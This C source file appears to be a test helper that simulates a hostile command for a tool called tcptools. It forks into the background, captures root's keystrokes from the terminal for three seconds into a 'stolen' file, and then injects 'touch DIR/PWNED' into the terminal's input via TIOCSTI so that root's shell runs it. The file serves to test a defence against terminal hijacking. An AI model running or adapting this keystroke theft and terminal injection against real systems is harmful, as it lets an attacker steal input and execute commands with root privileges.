/*
 * What a hostile command leaves behind to reach the terminal of the root who
 * ran it (issue 18, item 1): once DIR/go exists (tcptools has exited), it
 * reads what it can from stdin for 3 seconds (root's keystrokes), then pushes
 * "touch DIR/PWNED" and a newline into the input of its stdin, stdout and
 * stderr (TIOCSTI), for root's shell to run.
 * DIR/sti gets each TIOCSTI's result, DIR/stolen what was read, DIR/done
 * marks the end. It ignores the hangup of a terminal that goes away.
 *
 * Usage: tty_attacker DIR
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

static void note(const char *dir, const char *name, const char *text, size_t n)
{
	char path[4096];
	snprintf(path, sizeof path, "%s/%s", dir, name);
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
	if (fd >= 0) {
		if (write(fd, text, n) < 0) { /* nothing to do */
		}
		close(fd);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	const char *dir = argv[1];
	signal(SIGHUP, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	signal(SIGTTOU, SIG_IGN);
	if (fork() != 0)
		return 0; /* the command's shell does not wait for us */
	char go[4096];
	snprintf(go, sizeof go, "%s/go", dir);
	for (int i = 0; i < 400 && access(go, F_OK) != 0; i++)
		nanosleep(&(struct timespec){.tv_nsec = 50000000}, NULL);
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		struct pollfd p = {.fd = 0, .events = POLLIN};
		ssize_t n = 0;
		char buf[256];
		if (poll(&p, 1, 100) > 0 && (p.revents & POLLIN))
			n = read(0, buf, sizeof buf);
		if (n > 0)
			note(dir, "stolen", buf, (size_t)n);
		else /* a hung-up terminal polls ready at once */
			nanosleep(&(struct timespec){.tv_nsec = 100000000}, NULL);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - start.tv_sec < 3);
	char line[4200];
	snprintf(line, sizeof line, "touch %s/PWNED\n", dir);
	for (int fd = 0; fd < 3; fd++) {
		int err = 0;
		for (char *c = line; *c && !err; c++)
			if (ioctl(fd, TIOCSTI, c) < 0)
				err = errno;
		char result[128];
		int n = snprintf(result, sizeof result, "fd %d: %s\n", fd, err ? strerror(err) : "injected");
		note(dir, "sti", result, (size_t)n);
	}
	note(dir, "done", "", 0);
	return 0;
}
